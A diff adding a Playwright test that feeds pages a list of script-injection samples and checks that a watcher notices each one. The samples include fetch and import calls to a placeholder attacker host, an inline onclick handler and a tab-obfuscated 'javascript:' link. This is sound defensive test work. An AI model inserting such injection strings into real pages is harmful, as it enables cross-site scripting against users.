@@ -45,6 +45,34 @@ const isAlive = (page: Page) =>
     return Object.keys(heading).some((key) => key.startsWith('__reactFiber'));
   });
 
+const running = (code: string) => `<body><script>${code}; document.currentScript.remove()</script>`;
+
+/** Pages on which something runs or would, each with how that is noticed. */
+const dangerous: [html: string, notice: RegExp][] = [
+  [running('alert(1)'), /dialog: 1/],
+  [running('open("about:blank")'), /window: /],
+  [running('document.body.appendChild(document.createElement("iframe")).remove()'), /frame: /],
+  [running('fetch("https://attacker.example/x")'), /fetch: https:\/\/attacker\.example\/x/],
+  [running('import("https://attacker.example/x.js")'), /script: https:\/\/attacker\.example/],
+  ['<link rel="stylesheet" href="https://attacker.example/x.css">', /stylesheet: https:/],
+  ['<p><script>1</script>', /<script>/],
+  ['<p onclick="x()">x', /p onclick/],
+  ['<a href="java\tscript:x()">x', /a href/],
+  ['<base href="/x">', /<base/],
+];
+
+test('whatever runs or may run on a page is noticed', async ({ context }) => {
+  for (const [html, notice] of dangerous) {
+    const page = await context.newPage();
+    const expectNothingRan = await watchForScripts(page, []);
+    await page.setContent('<p>Niente.</p>');
+    await expectNothingRan();
+    await page.setContent(html);
+    await expect.poll(() => expectNothingRan().then(() => '', String)).toMatch(notice);
+    await page.close();
+  }
+});
+
 test('no image is taken from an address that is none', async ({ request }) => {
   const headers = { authorization: `Bearer ${await staffToken(request)}` };
   for (const featuredImage of injectedTexts) {
